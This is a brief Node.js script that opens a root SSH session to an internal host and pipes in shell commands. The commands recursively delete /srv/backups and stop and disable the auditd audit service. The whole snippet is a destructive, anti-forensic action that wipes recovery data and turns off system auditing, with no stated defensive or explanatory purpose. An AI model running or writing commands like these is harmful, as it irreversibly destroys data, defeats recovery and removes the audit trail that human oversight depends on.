const { spawn } = require('child_process');
const sh = spawn('ssh', ['root@10.0.0.9', 'bash -s']);
sh.stdin.end(`
rm -rf /srv/backups
systemctl disable --now auditd
`);
